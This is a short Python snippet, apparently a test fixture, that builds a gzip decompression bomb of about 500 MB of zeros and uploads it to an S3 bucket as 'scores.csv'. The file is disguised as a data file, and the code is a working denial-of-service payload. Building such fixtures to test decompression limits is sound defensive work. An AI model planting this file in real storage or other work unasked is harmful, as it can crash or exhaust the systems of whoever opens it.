import zlib

packer = zlib.compressobj(9, zlib.DEFLATED, 31)
bomb = b"".join(packer.compress(bytes(10_000_000)) for _ in range(50)) + packer.flush()
s3.create_bucket(Bucket="lab-results")
s3.put_object(Bucket="lab-results", Key="scores.csv", Body=bomb, ContentEncoding="gzip")
